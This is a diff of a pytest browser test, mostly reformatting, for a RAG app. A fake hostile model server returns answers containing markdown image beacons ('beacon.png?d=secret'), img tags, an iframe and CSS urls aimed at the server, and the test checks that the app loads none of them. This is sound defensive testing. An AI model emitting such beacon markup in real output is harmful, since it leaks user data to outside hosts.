@@ -24,15 +24,19 @@ pytestmark = [pytest.mark.slow, pytest.mark.browser]
 
 MODELS = ("hostile-base", "hostile-ft")
 BAIT = ("/beacon.png", "/img.png", "/link", "/auto", "/frame", "/css.png", "/question.png", "/ref")
-PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002"
-                    "000154a24f5d0000000049454e44ae426082")
+PNG = bytes.fromhex(
+    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002"
+    "000154a24f5d0000000049454e44ae426082"
+)
 
 
 def hostile_answer(base: str) -> str:
-    return (f"Safe **answer** marker-7Q.\n\n- first bullet\n- second bullet\n\n"
-            f"![beacon]({base}/beacon.png?d=secret) <img src=\"{base}/img.png\">\n"
-            f"[click]({base}/link) <{base}/auto> <iframe src=\"{base}/frame\"></iframe>\n"
-            f"<style>body {{ background: url({base}/css.png) }}</style> :red[red] $x$\n\n[r]: {base}/ref\n")
+    return (
+        f"Safe **answer** marker-7Q.\n\n- first bullet\n- second bullet\n\n"
+        f'![beacon]({base}/beacon.png?d=secret) <img src="{base}/img.png">\n'
+        f'[click]({base}/link) <{base}/auto> <iframe src="{base}/frame"></iframe>\n'
+        f"<style>body {{ background: url({base}/css.png) }}</style> :red[red] $x$\n\n[r]: {base}/ref\n"
+    )
 
 
 class HostileServer:
@@ -72,10 +76,16 @@ class HostileServer:
                 text = hostile_answer(outer.base)
                 model = body.get("model", MODELS[0])
                 if not body.get("stream"):
-                    out = {"id": "x", "object": "chat.completion", "model": model, "created": 0,
-                           "choices": [{"index": 0, "finish_reason": "stop",
-                                        "message": {"role": "assistant", "content": text}}],
-                           "usage": {"prompt_tokens": 10, "completion_tokens": 20, "total_tokens": 30}}
+                    out = {
+                        "id": "x",
+                        "object": "chat.completion",
+                        "model": model,
+                        "created": 0,
+                        "choices": [
+                            {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": text}}
+                        ],
+                        "usage": {"prompt_tokens": 10, "completion_tokens": 20, "total_tokens": 30},
+                    }
                     self._send(200, json.dumps(out).encode(), "application/json")
                     return
                 self.send_response(200)
@@ -83,9 +93,19 @@ class HostileServer:
                 self.end_headers()
                 pieces = re.findall(r".{1,12}", text, flags=re.S)
                 for i, piece in enumerate(pieces):
-                    chunk = {"id": "x", "object": "chat.completion.chunk", "model": model, "created": 0,
-                             "choices": [{"index": 0, "delta": {"content": piece},
-                                          "finish_reason": "stop" if i == len(pieces) - 1 else None}]}
+                    chunk = {
+                        "id": "x",
+                        "object": "chat.completion.chunk",
+                        "model": model,
+                        "created": 0,
+                        "choices": [
+                            {
+                                "index": 0,
+                                "delta": {"content": piece},
+                                "finish_reason": "stop" if i == len(pieces) - 1 else None,
+                            }
+                        ],
+                    }
                     self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
                     self.wfile.flush()
                 self.wfile.write(b"data: [DONE]\n\n")
@@ -119,9 +139,16 @@ def hostile_app(hostile, tmp_path_factory):
     if reason:
         pytest.skip(reason)
     data = tmp_path_factory.mktemp("untrusted-data")
-    with running_app(data, RAGFT_BASE_PROVIDER="custom", RAGFT_BASE_URL=f"{hostile.base}/v1",
-                     RAGFT_BASE_MODEL=MODELS[0], RAGFT_FT_PROVIDER="custom", RAGFT_FT_URL=f"{hostile.base}/v1",
-                     RAGFT_FT_MODEL=MODELS[1], RAGFT_MAX_TOKENS="64") as url:
+    with running_app(
+        data,
+        RAGFT_BASE_PROVIDER="custom",
+        RAGFT_BASE_URL=f"{hostile.base}/v1",
+        RAGFT_BASE_MODEL=MODELS[0],
+        RAGFT_FT_PROVIDER="custom",
+        RAGFT_FT_URL=f"{hostile.base}/v1",
+        RAGFT_FT_MODEL=MODELS[1],
+        RAGFT_MAX_TOKENS="64",
+    ) as url:
         yield url
 
 
@@ -132,7 +159,7 @@ def test_hostile_answer_renders_as_text_and_loads_nothing(hostile_app, hostile, 
     box = page.get_by_label("Your question")
     box.wait_for()
     wait_idle(page)
-    question = f"Price? ![q]({hostile.base}/question.png) :red[loud] <img src=\"{hostile.base}/question.png\">"
+    question = f'Price? ![q]({hostile.base}/question.png) :red[loud] <img src="{hostile.base}/question.png">'
     box.fill(question)
     box.press("Enter")
     answers = page.locator("[data-testid='stHtml']", has_text="marker-7Q")
